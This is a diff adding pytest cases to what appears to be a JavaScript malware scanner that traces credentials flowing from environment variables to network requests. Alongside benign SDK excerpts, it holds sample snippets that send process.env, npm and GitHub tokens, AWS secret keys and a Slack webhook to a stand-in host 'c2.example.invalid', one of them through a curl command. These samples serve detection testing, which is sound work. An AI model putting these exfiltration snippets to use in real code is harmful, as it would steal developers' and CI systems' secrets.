@@ -155,3 +155,103 @@ function b() { const v = 'public'; https.get('https://x.example.invalid/' + v); 
 """
     found = find_chains(src)
     assert [c.sink_line for c in found] == [2]
+
+
+# -- top-1000 false positives (h/top1000): the real constructs, excerpted and reduced ------------
+# @smithy/credential-provider-imds: the container credential provider sends its auth token to
+# the metadata endpoint it authenticates against, as the request's Authorization header
+CREDENTIAL_IN_ITS_OWN_REQUEST = """const http = require("node:http");
+function httpRequest(options) {
+  return new Promise((resolve) => { const req = http.request({ method: "GET", ...options }); req.end(); });
+}
+const requestFromEcsImds = async (timeout, options) => {
+  if (process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN) {
+    options.headers = { ...options.headers, Authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN };
+  }
+  return httpRequest({ ...options, timeout });
+};
+"""
+HEADER_ASSIGNED = """const https = require('https');
+const headers = {};
+headers['Authorization'] = 'Bearer ' + process.env.GITHUB_TOKEN;
+https.get({ host: 'api.example.invalid', headers });
+"""
+# @smithy/core: the SDK's endpoint setting is where its request goes, not a secret
+SDK_ENDPOINT_SETTING = """const { request } = require('node:http');
+const endpoint = process.env.AWS_EC2_METADATA_SERVICE_ENDPOINT;
+const req = request({ host: endpoint, path: '/latest/meta-data/placement/region' });
+req.end();
+"""
+# pnpm's install.js: npm's own lower-case lifecycle variables pick the command to run
+NPM_LIFECYCLE_SETTING = """const { spawnSync } = require('child_process');
+const npmCli = process.env.npm_execpath;
+spawnSync(process.execPath, [npmCli, 'config', 'get', 'registry'], { stdio: 'inherit' });
+"""
+
+
+# @smithy/credential-provider-imds (normalised view): the container credentials URI is the path
+# the provider requests, returned by a helper: a place, whatever word comes before it
+CREDENTIALS_URI_SETTING = """const http = require('http');
+const getCmdsUri = () => ({ hostname: '169.254.170.2',
+  path: process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI });
+const options = getCmdsUri();
+http.request({ ...options, timeout: 1000 }).end();
+"""
+
+
+@pytest.mark.parametrize("src", [CREDENTIAL_IN_ITS_OWN_REQUEST, HEADER_ASSIGNED,
+                                 SDK_ENDPOINT_SETTING, NPM_LIFECYCLE_SETTING,
+                                 CREDENTIALS_URI_SETTING])
+def test_a_credential_sent_as_its_own_requests_auth_and_settings_are_no_chain(src: str) -> None:
+    assert find_chains(src.encode()) == []
+
+
+# the malicious forms of the same shapes stay chains
+@pytest.mark.parametrize(("src", "source"), [
+    # the whole environment (or a serialised value) in an Authorization header is no credential
+    ("const https = require('https');\nconst all = JSON.stringify(process.env);\n"
+     "https.request({ hostname: 'c2.example.invalid', headers: { Authorization: all } }).end();",
+     "process.env"),
+    # a token in the Authorization header and in the query string: the query string leaks it
+    ("const t = process.env.NPM_TOKEN;\nfetch('https://c2.example.invalid/?t=' + t, "
+     "{ headers: { Authorization: 'Bearer ' + t } });", "process.env.NPM_TOKEN"),
+    # npm's lower-case variables still count when the key names a secret
+    ("const { exec } = require('child_process');\n"
+     "exec('curl -d ' + process.env.npm_config__authToken + ' https://c2.example.invalid');",
+     "process.env.npm_config__authToken"),
+    # a service's own variable with no secret word is still a secret unless it names a place
+    ("fetch('https://c2.example.invalid/?k=' + process.env.GITHUB_PAT);", "process.env.GITHUB_PAT"),
+    # a webhook URL is the credential itself, URL suffix or not
+    ("fetch('https://c2.example.invalid/', { method: 'POST', body: process.env.SLACK_WEBHOOK_URL });",
+     "process.env.SLACK_WEBHOOK_URL"),
+    # the same helper returning the token instead of the URI: still a secret where it goes
+    (CREDENTIALS_URI_SETTING.replace("RELATIVE_URI", "TOKEN"),
+     "process.env.AWS_CONTAINER_CREDENTIALS_TOKEN"),
+    ("const https = require('https');\n"
+     "https.get('https://c2.example.invalid/?k=' + process.env.AWS_SECRET_ACCESS_KEY);",
+     "process.env.AWS_SECRET_ACCESS_KEY"),
+])
+def test_secrets_leaving_outside_the_auth_header_are_still_chains(src: str, source: str) -> None:
+    found = find_chains(src.encode())
+    assert found and found[0].source.what == source
+
+
+def test_a_function_is_not_the_data_its_body_reads() -> None:
+    """@smithy/credential-provider-imds: `const f = async () => { if (process.env.X) … }` made
+    `f`, and every value computed by calling it, a secret; the chain ran through the SDK."""
+    src = """const http = require('http');
+const readToken = async () => { if (process.env.SERVICE_TOKEN) { return 'set'; } return ''; };
+const retry = (fn) => fn();
+const result = retry(readToken);
+http.request({ host: 'api.example.invalid', path: '/' + result }).end();
+"""
+    assert find_chains(src.encode()) == []
+    # a function is what it returns: a getter of the secret is still a source where it is called
+    getter = src.replace("if (process.env.SERVICE_TOKEN) { return 'set'; } return '';",
+                         "return process.env.SERVICE_TOKEN;")
+    assert getter != src
+    found = find_chains(getter.encode())
+    assert found and found[0].source.what == "process.env.SERVICE_TOKEN"
+    arrow = ("const grab = () => process.env.NPM_TOKEN;\n"
+             "fetch('https://c2.example.invalid/?t=' + grab());\n")
+    assert find_chains(arrow.encode())
